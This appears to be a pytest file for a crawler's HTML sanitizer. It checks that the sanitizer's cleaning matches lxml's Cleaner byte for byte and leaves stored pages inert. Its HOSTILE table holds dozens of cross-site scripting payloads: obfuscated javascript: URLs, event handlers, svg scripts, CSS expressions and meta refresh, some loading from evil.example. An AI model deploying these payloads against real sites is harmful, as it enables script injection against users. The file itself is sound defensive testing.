"""The sanitizer's :func:`~crawler.sanitize._clean` does what lxml_html_clean's Cleaner did with the product's
options, serialised byte for byte, on real pages and on hostile ones, in a fraction of its CPU; what either
leaves (event handlers, script URLs, CSS, meta refresh) the sanitizer's attribute pass removes."""

from __future__ import annotations

import gzip
from pathlib import Path

import pytest
from lxml.html import HtmlElement, document_fromstring, tostring

from crawler import sanitize
from crawler.htmltree import HtmlParser, parser_markup
from crawler.sanitize import inert_html
from tests.test_sanitize_bypasses import PAYLOADS, page, violations

ROOT = Path(__file__).resolve().parent.parent
BENCHMARK = ROOT.parent / "shared" / "benchmarks" / "article-extraction"

REFERENCE = sanitize.reference_cleaner()  # what the sanitizer used before _clean, options and all

HOSTILE = {
    "script in svg": '<svg><script>alert(1)</script><script href="data:text/javascript,alert(2)"/></svg>',
    "script in math": "<math><mi><script>alert(1)</script></mi></math>",
    "prefixed svg script": '<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>',
    "xhtml namespace": '<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script><p>x</p>',
    "xhtml prefix": '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script><x:p>t</x:p>',
    "upper-case script": "<SCRIPT SRC=//evil.example/x.js></SCRIPT><ScRiPt>alert(1)</sCrIpT>tail",
    "split script": "<scr<script>ipt>alert(1)</script>",
    "script in template": "<template><script>alert(1)</script><p>kept</p></template>",
    "onerror in odd case": '<img src=x OnError="alert(1)"><img src=y ONERROR=alert(2)><body oNlOaD=alert(3)>',
    "image as img": '<image src=x onerror=alert(1)>text</image>',
    "javascript: with entities": '<a href="&#106;&#x61;vascript&colon;alert(1)">a</a>'
                                 '<a href="jav&#x09;ascript:alert(2)">b</a><a href="&#x6A;ava&#0;script:x">c</a>',
    "javascript: with whitespace": '<a href=" \n\tjavascript:alert(1)">a</a><a href="java\nscript:alert(2)">b</a>',
    "javascript: with control characters": '<a href="\x01\x02javascript:alert(1)">a</a>'
                                           '<a href="java\x08script:alert(2)">b</a>',
    "javascript: in src, action, formaction": '<img src="javascript:alert(1)"><form action="JaVaScRiPt:alert(2)">'
                                              '<button formaction="vbscript:msgbox(3)">go</button>'
                                              '<input type=submit formaction="javascript:alert(4)"></form>',
    "data: documents": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>'
                       '<object data="data:image/svg+xml,<svg onload=alert(1)>"></object>',
    "style expression()": '<p style="width: expression(alert(1))">a</p><p style="width: \\65xpression(alert(2))">b</p>',
    "style url(javascript:)": "<p style=\"background:url('javascript:alert(1)')\">a</p>"
                              "<style>body{background:url(javascript:alert(2))}</style>"
                              '<style>@import "https://evil.example/x.css";</style>',
    "style with markup in svg": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'
                    '<meta http-equiv=" Refresh " content="0;url=https://evil.example/">',
    "base href": '<base href="javascript:alert(1)//"><base href="https://evil.example/"><a href="x">x</a>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>">fallback</iframe>'
                     '<iframe src="javascript:alert(2)"><p>inside</p></iframe>tail',
    "frames": '<frameset><frame src="javascript:alert(1)"></frameset><noframes><p>no</p></noframes>',
    "embedded": '<object data="x.swf"><param name=movie value=x.swf><embed src="x.swf">fallback</object>'
                '<applet code="X.class"><param name=a value=b>applet text</applet><param name=stray>'
                "<object><object><p>nested</p></object>tail</object><layer src=x>layer</layer>",
    "conditional comments": "<!--[if IE]><script>alert(1)</script><![endif]--><!--[IF gte IE 5]  >x<![endif]-->"
                            "<!-- [if not a conditional --><!--plain-->",
    "processing instructions": '<?php echo 1 ?><?xml-stylesheet href="javascript:alert(1)"?><p>x</p>',
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]><svg><![CDATA[<script>alert(2)</script>]]></svg>",
    "noscript and noembed": "<noscript><img src=x onerror=alert(1)></noscript><noembed><p>e</p></noembed>",
    "svg animation": '<svg><a><animate attributeName=href values="javascript:alert(1)"/>'
                     '<set attributeName=href to="javascript:alert(2)"/><text>x</text></a></svg>',
    "portal and fencedframe": '<portal src="https://evil.example/"></portal><fencedframe></fencedframe>',
    "foreignObject iframe": '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    "stylesheet links": '<link rel=stylesheet href="https://evil.example/x.css"><link rel="import" href="x">',
    "text around dropped nodes": "<p>a<script>x</script>b<!--[if IE]>c<![endif]-->d<object>e<b>f</b>g</object>h</p>",
}


def _parsed(html: str) -> HtmlElement:
    return document_fromstring(parser_markup(html), parser=HtmlParser())


def _cleaned_both_ways(html: str) -> tuple[bytes, bytes]:
    by_reference, by_clean = _parsed(html), _parsed(html)
    REFERENCE(by_reference)
    sanitize._clean(by_clean)
    return tostring(by_reference), tostring(by_clean)


@pytest.mark.parametrize("html", [*HOSTILE.values(), *PAYLOADS.values()], ids=[*HOSTILE, *PAYLOADS])
def test_a_hostile_page_is_cleaned_as_the_cleaner_cleans_it_and_stored_inert(html: str) -> None:
    # The Cleaner's options leave event handlers, script URLs, CSS and meta refresh to the attribute pass, so
    # _clean does too: here they are the same everywhere, none weaker, and the stored page runs nothing.
    by_reference, by_clean = _cleaned_both_ways(page(html))
    assert by_clean == by_reference
    assert violations(inert_html(page(html))) == []


def _detached(html: str) -> HtmlElement:
    """The first element of ``html``, taken out of its page."""
    element: HtmlElement = document_fromstring(f"<div>{html}</div>").find(".//div")[0]
    element.getparent().remove(element)
    return element


@pytest.mark.parametrize("root", ["script", "noscript", "applet", "iframe", "object", "p"])
def test_a_root_it_would_remove_is_kept_as_the_cleaner_keeps_it(root: str) -> None:
    """An element, not a page (never what the sanitizer is given): the Cleaner empties a root it would drop and
    makes one it would unwrap a ``<div>`` (an emptied root's descendants it still tries to remove and fails)."""
    inner = "a<b>b</b>d" if root in sanitize._DROPPED else "a<b>b</b><script>c</script>d<object>e</object>f"
    html = f'<{root} id="r">{inner}</{root}>tail'
    by_reference, by_clean = _detached(html), _detached(html)
    REFERENCE(by_reference)
    sanitize._clean(by_clean)
    assert tostring(by_clean) == tostring(by_reference)


def _benchmark_pages(step: int) -> list[str]:
    pages = sorted(BENCHMARK.rglob("*.html.gz"))[::step]
    if not pages:
        pytest.skip("the extraction benchmark (../shared/benchmarks) is not here")
    return [gzip.decompress(path.read_bytes()).decode("utf-8", "replace") for path in pages]


def test_real_pages_are_cleaned_as_the_cleaner_cleans_them() -> None:
    pages = _benchmark_pages(3)
    assert len(pages) > 250
    for number, html in enumerate(pages):
        by_reference, by_clean = _cleaned_both_ways(html)
        assert by_clean == by_reference, number
